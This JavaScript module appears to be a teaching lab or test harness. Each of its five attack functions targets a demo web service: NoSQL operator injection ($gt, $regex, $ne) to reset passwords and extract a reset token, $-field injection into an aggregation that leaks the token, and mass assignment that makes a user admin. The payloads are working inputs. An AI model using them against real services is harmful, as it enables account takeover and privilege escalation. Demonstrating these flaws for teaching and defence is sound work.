import { TOKEN } from './users.js';

const json = (method, body) => ({
  method, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body),
});

// Each attack gets the address of a server and its users, and resolves to true when it has worked.

// #region reset
/** "Greater than the empty string" is true for every token there is. */
export async function resetWithoutToken(base) {
  const res = await fetch(`${base}/reset`, json('POST', { token: { $gt: '' }, password: 'known to Mallory' }));
  return res.status === 200;
}
// #endregion

// #region guess
/** The service says only 200 or 400. $regex turns that into one letter after the other. */
export async function guessToken(base) {
  let token = '';
  while (token.length < 6) {
    const letters = [...'0123456789abcdef'];
    const tries = letters.map((letter) =>
      fetch(`${base}/reset`, json('POST', { token: { $regex: `^${token}${letter}` }, password: 'guessed by Mallory' })));
    const hit = (await Promise.all(tries)).findIndex((res) => res.status === 200);
    if (hit === -1) break;
    token += letters[hit];
  }
  return token === TOKEN;
}
// #endregion

/** No JSON needed, where the query parser makes objects. */
export async function operatorInTheQuery(base) {
  const res = await fetch(`${base}/users?name[$ne]=nobody`);
  return res.status === 200 && (await res.json()).length === 2;
}

// #region label
/** A string, as it should be. In an aggregation a string with a $ in front is a field. */
export async function fieldAsText(base) {
  const res = await fetch(`${base}/badges?title=$resetToken`);
  return (await res.text()).includes(TOKEN);
}
// #endregion

/** No operator at all: the client names a field that the form does not have. */
export async function promoteMyself(base, users) {
  await fetch(`${base}/users/2`, json('PATCH', { name: 'Bob', role: 'admin' }));
  return (await users.findOne({ _id: 2 })).role === 'admin';
}
